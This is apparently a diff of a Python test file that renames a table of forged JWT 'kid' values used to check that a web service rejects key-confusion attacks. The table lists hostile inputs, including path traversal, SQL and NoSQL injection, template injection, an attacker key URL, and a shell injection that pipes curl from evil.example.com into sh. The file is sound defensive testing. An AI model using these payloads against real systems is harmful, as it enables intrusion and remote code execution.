@@ -15,18 +15,18 @@ if TYPE_CHECKING:
 OWN_KEY = b"an attacker's own key of 32 byte"
 OWN_JWK = {"kty": "oct", "k": encoded(OWN_KEY), "alg": "HS256"}
 # Values of `kid` that attack the look-up, and the key that the attacker expects from it.
-HOPES: dict[str, tuple[Any, bytes]] = {
+KIDS: dict[str, tuple[Any, bytes]] = {
     "a path to an empty file": ("../../../../../../dev/null", b""),
     "a path to a known file": ("/proc/sys/kernel/ostype", b"Linux\n"),
     "a path in Windows": ("..\\..\\..\\windows\\win.ini", b""),
     "an encoded path": ("%2e%2e%2f%2e%2e%2fdev%2fnull", b""),
     "a path behind a NUL": ("x\0/../../dev/null", b""),
     "SQL": ("x' UNION SELECT 'k' -- ", b"k"),
-    "an operator of a query": ({"$ne": ""}, b""),
-    "a shell": ("x; curl https://evil.example.com |sh", b""),
+    "a query operator": ({"$ne": ""}, b""),
+    "a shell command": ("x; curl https://evil.example.com |sh", b""),
     "a template": ("{{7*7}}${7*7}", b"49"),
     "a URL": ("https://evil.example.com/key", OWN_KEY),
-    "a file's URL": ("file:///dev/null", b""),
+    "a file URL": ("file:///dev/null", b""),
     "a data URL": (f"data:application/octet-stream;base64,{encoded(OWN_KEY)}", OWN_KEY),
     "a secret's name": ("ecommerce/local/jwt/secret", b""),
     "a member of the secret": ("keys", b""),
@@ -42,8 +42,8 @@ HOPES: dict[str, tuple[Any, bytes]] = {
     "a fraction": (1.5, b""),
     "a list": (["a"], b""),
     "no kid": (LEFT_OUT, b""),
-    "a huge one": ("k" * 6000, b""),
-    "half a letter": ("\ud800", b""),
+    "a huge kid": ("k" * 6000, b""),
+    "a lone surrogate": ("\ud800", b""),
 }
 # Members outside our headers: those that contain a key or link to one, and those that change the parsing.
 MEMBERS: list[dict[str, Any]] = [
@@ -80,7 +80,7 @@ def test_valid_forged_token_is_accepted(anonymous: httpx.Client, forger: Forger)
     assert lets_in(anonymous, forger.sign(forger.header()))
 
 
-@pytest.mark.parametrize(("kid", "key"), HOPES.values(), ids=HOPES)
+@pytest.mark.parametrize(("kid", "key"), KIDS.values(), ids=KIDS)
 def test_forged_kid_finds_no_key(anonymous: httpx.Client, forger: Forger, kid: Any, key: bytes) -> None:
     for hoped_for in (key, OWN_KEY, forger.key):
         assert not lets_in(anonymous, forger.sign(forger.header(kid=kid), key=hoped_for))
